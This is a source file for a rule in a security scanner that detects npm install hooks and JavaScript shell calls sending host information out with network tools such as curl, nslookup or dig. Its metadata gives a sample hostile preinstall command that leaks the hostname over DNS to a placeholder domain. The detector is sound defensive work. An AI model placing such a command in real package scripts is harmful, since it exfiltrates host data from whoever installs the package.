import { allEvents, at, scriptLine, callSeverity, eventTrigger, type JsRule } from '../../analysis/javascript/context.js';
import { defineRule } from '../types.js';

/** A network tool in a shell command carrying host identity or environment (often over DNS). */
export const installScriptExfiltration: JsRule = defineRule({
  meta: {
    id: 'npm/install-script-exfiltration',
    kind: 'threat',
    category: 'exfiltration',
    severity: 'critical',
    confidence: 'high',
    ecosystems: ['npm'],
    description: 'A shell command sends host information (hostname, user, environment, credential files) with curl, wget, nslookup, dig or ping.',
    examples: {
      positive: [{ files: { 'package.json': '{"name":"p","scripts":{"preinstall":"nslookup `hostname`.x.invalid"}}' } }],
      negative: [{ files: { 'package.json': '{"name":"p","scripts":{"postinstall":"echo $(hostname)"}}' } }],
    },
  },
  check(ctx, report) {
    for (const s of ctx.installScripts) {
      for (const f of s.facts) {
        if (f.behaviour !== 'host-exfil') continue;
        report({ path: s.path ?? ctx.manifestPath, line: scriptLine(s, f.command.text), evidence: f.command.text, message: `Install hook \`${s.hook}\` sends host information over the network: \`${f.command.text.slice(0, 100)}\`.`, trigger: 'install' });
      }
    }
    for (const { file, e } of allEvents(ctx)) {
      if (e.sink !== 'exec' || e.shell === undefined) continue;
      const f = e.shell.find((x) => x.behaviour === 'host-exfil');
      if (f === undefined) continue;
      report(at(file, e, `JavaScript runs a shell command that sends host information over the network: \`${f.command.text.slice(0, 100)}\`.`, { severity: callSeverity(eventTrigger(file, e), 'critical') }));
    }
  },
});
